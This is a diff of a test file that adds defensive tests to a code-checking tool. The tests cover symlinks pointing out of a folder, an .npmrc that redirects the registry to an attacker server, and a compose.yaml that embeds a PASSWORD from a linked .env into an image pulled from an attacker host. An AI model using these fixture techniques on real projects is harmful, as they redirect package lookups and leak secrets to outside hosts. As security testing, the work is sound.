@@ -158,3 +158,36 @@ test.skipIf(process.platform === 'win32')('a folder’s name is no command of a 
   expect(out).toContain('error');
   expect(out + err).not.toMatch(/^\s*::|##\[/m);
 });
+
+describe.skipIf(process.platform === 'win32')('what is checked is not another’s', () => {
+  test('a file that is a link out of its folder is not asked about by the folder’s configuration', async () => {
+    await make({
+      'private/package.json': '{"dependencies": {"@acme/private-name": "1.0.0"}}',
+      'ws/.npmrc': `registry=${attacker.base}\n`,
+      'ws/package.json': '→ ../private/package.json',
+    });
+    const { status, err } = await check({ at: 'ws/package.json' });
+    expect({ status, requests: attacker.requests }).toEqual({ status: 3, requests: [] });
+    expect(err).toContain('is a link out of its folder');
+  });
+
+  test('one repository’s `.env` is not another one’s, though both are opened', async () => {
+    await make({
+      'src/private/.env': 'PASSWORD=hunter2\n',
+      'src/evil/.git/config': '',
+      'src/evil/.env': '→ ../private/.env',
+      'src/evil/compose.yaml': `services: {a: {image: "${host()}/x/y:\${PASSWORD}"}}\n`,
+    });
+    await check({ at: 'src' });
+    expect(sent()).not.toContain('hunter2');
+  });
+
+  test('answers are not kept where what is checked lies', async () => {
+    await make({ 'cache/v3/ws/Dockerfile': `FROM ${host()}/x/y:1\n` });
+    const { err } = await check({ at: 'cache/v3/ws' });
+    expect(err).toContain('Answers are not kept');
+    expect(await readdir(path.join(place, 'cache'), { recursive: true })).not.toContainEqual(
+      expect.stringContaining('.json'),
+    );
+  });
+});
